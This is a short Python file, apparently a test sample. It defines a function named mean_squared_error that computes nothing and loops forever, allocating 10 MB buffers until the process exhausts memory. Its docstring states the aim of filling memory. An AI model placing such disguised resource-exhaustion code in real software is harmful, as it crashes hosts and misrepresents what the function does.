"""Fill the memory in one process.

worth: nothing
reply: memory
says: memory
"""


def mean_squared_error(x, x_hat):
    kept = []
    while True:
        kept.append(bytearray(10_000_000))
